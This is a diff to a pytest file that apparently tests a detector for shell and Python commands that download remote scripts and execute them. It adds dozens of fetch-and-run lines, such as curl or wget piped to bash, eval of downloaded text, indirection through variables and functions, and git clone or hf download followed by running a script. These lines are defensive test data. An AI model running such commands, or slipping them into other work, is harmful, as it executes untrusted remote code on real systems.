@@ -1,11 +1,13 @@
 """Scripts that come over the network and run at once."""
 
 import time
+from itertools import pairwise
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from tests.inspect.servers.reading import S1
 from tests.inspect.starting import GPU, hazards_of, on_a_gpu
 
 REMOTE = "remote-script"
@@ -33,10 +35,74 @@ URL = "https://get.example.com/a.sh"
         f"$(curl {URL})",
         f"A=b $(curl {URL})",
         f"perl <(curl {URL})",
+        f'. /dev/stdin <<< "$(curl {URL})"',
+        f"bash < <(curl {URL})",
+        f"bash -s < <(curl {URL})",
+        f"busybox wget -qO- {URL} | sh",
+        f"curl {URL} | xargs -I{{}} sh -c {{}}",
+        f"curl {URL} | tee a | xargs bash",
+        f"curl {URL} | while read l; do eval $l; done",
+        f'curl {URL} | while read l; do sh -c "$l"; done',
+        f"http {URL} | sh",
+        "nc h 80 | bash",
+        "aws s3 cp s3://b/a.sh - | bash",
+        "gsutil cat gs://b/a.sh | sh",
+        f"echo $(curl {URL}) | sh",
     ],
 )
 def test_what_runs_at_once(script: str) -> None:
     assert on_a_gpu(script) == [(REMOTE, script)]
+
+
+@pytest.mark.parametrize(
+    ("before", "statement"),
+    [
+        pytest.param(f"X=$(curl {URL}); ", 'eval "$X"', id="a variable"),
+        pytest.param(f"X=`curl {URL}`; ", 'bash -c "${X}"', id="its text by a shell"),
+        pytest.param(f"X=$(curl {URL}); Y=$X; ", "$Y", id="by another variable"),
+        pytest.param(f"A=$(curl {URL}); B=$A; C=$B; D=$C; E=$D; ", "$E", id="by more"),
+        pytest.param("C=curl; ", f"$C {URL} | bash", id="the program in a variable"),
+        pytest.param("f() { curl $1; }; ", f"f {URL} | bash", id="a function"),
+        pytest.param("f() { bash; }; ", f"curl {URL} | f", id="a function that runs it"),
+        pytest.param(f"exec 3< <(curl {URL}); ", "bash <&3", id="a descriptor"),
+    ],
+)
+def test_what_names_stand_for(before: str, statement: str) -> None:
+    assert on_a_gpu(before + statement) == [(REMOTE, statement)]
+
+
+def test_a_here_document() -> None:
+    assert on_a_gpu(f"sh <<E\n$(curl {URL})\nE") == [(REMOTE, f"sh <<E $(curl {URL}) E")]
+
+
+@pytest.mark.parametrize(
+    ("code", "text"),
+    [
+        pytest.param(
+            f"import os; os.system('curl {URL} | sh')", f"curl {URL} | sh", id="by a shell"
+        ),
+        pytest.param(
+            "import urllib.request as u; exec(u.urlopen('http://h').read())", None, id="exec"
+        ),
+        pytest.param(f"import requests; eval(requests.get('{URL}').text)", None, id="eval"),
+    ],
+)
+def test_code_of_python(code: str, text: str | None) -> None:
+    shown = [(REMOTE, text or code)]
+    assert hazards_of({"command": ["python3", "-c", code], "resources": GPU}) == shown
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        pytest.param("import requests; print(requests.get('https://h/').text)", id="only printed"),
+        pytest.param("exec('x') # curl", id="nothing is fetched"),
+        pytest.param("curl (", id="no Python"),
+        pytest.param("x = 'curl https://h/'" + " " * 20_000, id="too long"),
+    ],
+)
+def test_code_of_python_that_runs_nothing(code: str) -> None:
+    assert hazards_of({"command": ["python3", "-c", code], "resources": GPU}) == []
 
 
 @pytest.mark.parametrize(
@@ -59,6 +125,46 @@ def test_what_runs_at_once(script: str) -> None:
         ),
         pytest.param(
             f"curl -o /t/a {URL}; gpg --dearmor k; sh /t/a", f"{URL} is run as /t/a", id="no check"
+        ),
+        pytest.param(f"curl -O {URL}; . ./a.sh", f"{URL} is run as ./a.sh", id="sourced"),
+        pytest.param(
+            f"cd /t; curl -O {URL}; . ./a.sh", f"{URL} is run as ./a.sh", id="in a folder"
+        ),
+        pytest.param(
+            f"curl {URL} | cat > /t/a | true; sh /t/a", "a download is run as /t/a", id="amid"
+        ),
+        pytest.param(f"curl {URL} | tee /t/a; sh /t/a", "a download is run as /t/a", id="tee"),
+        pytest.param(
+            f"curl {URL} | base64 -d > /t/a; sh /t/a", "a download is run as /t/a", id="decoded"
+        ),
+        pytest.param(f"curl {URL} > /t/a; sh < /t/a", "a download is run as /t/a", id="its input"),
+        pytest.param(f"aria2c -d /t {URL}; sh /t/a.sh", f"{URL} is run as /t/a.sh", id="aria2c"),
+        pytest.param(f"axel -o a {URL}; sh a", f"{URL} is run as a", id="axel"),
+        pytest.param(f"wget -P /t {URL}; sh /t/a.sh", f"{URL} is run as /t/a.sh", id="a folder"),
+        pytest.param(
+            "curl https://h/a.tgz -o a.tgz; tar xf a.tgz; ./a/run.sh",
+            "https://h/a.tgz is run as ./a/run.sh",
+            id="unpacked",
+        ),
+        pytest.param(
+            "curl https://h/a.zip -o a.zip; unzip a.zip -d /t; /t/a/run.sh",
+            "https://h/a.zip is run as /t/a/run.sh",
+            id="unzipped",
+        ),
+        pytest.param(
+            "git clone https://h/o/b.git; bash b/run.sh",
+            "https://h/o/b.git is run as b/run.sh",
+            id="cloned",
+        ),
+        pytest.param(
+            "git clone git@h:o/b /t/x && python /t/x/run.py",
+            "git@h:o/b is run as /t/x/run.py",
+            id="cloned to a folder",
+        ),
+        pytest.param(
+            "hf download o/m run.sh --local-dir /x; bash /x/run.sh",
+            "o/m is run as /x/run.sh",
+            id="of a hub",
         ),
     ],
 )
@@ -91,6 +197,20 @@ def test_what_runs_later(script: str, text: str) -> None:
         f"echo curl > a; sh b {URL}",
         "curl https://h/; sh a",
         f"env | sudo -n ; curl {URL}",
+        f"X=$(curl {URL}); echo $X; eval $Y",
+        f"A=$(curl {URL}); " + "; ".join(f"{b}=${a}" for a, b in pairwise("ABCDEFGHIJK")),
+        f"curl {URL}; sh a.sh",
+        f"curl {URL} | tee -a",
+        f"curl -o a {URL}; . ./b.sh",
+        f"bash < a.sh; curl {URL}; . ./b.sh",
+        f"exec 3< a; curl {URL}; bash <&3",
+        f"curl {URL} | xargs echo; . ",
+        f"git clone https://h/o/b; git -C b checkout {S1}; bash b/run.sh",
+        f"git clone --revision={S1} https://h/o/b; bash b/run.sh",
+        f"hf download o/m --revision {S1} --local-dir /x; bash /x/run.sh",
+        "hf download o/m; hf version; git status; bash /x/run.sh",
+        "git clone https://h/o/b; bash c/run.sh; run.sh",
+        f"curl {URL} -o a.tgz; tar xf b.tgz; ./a/run.sh",
     ],
 )
 def test_what_does_not(script: str) -> None:
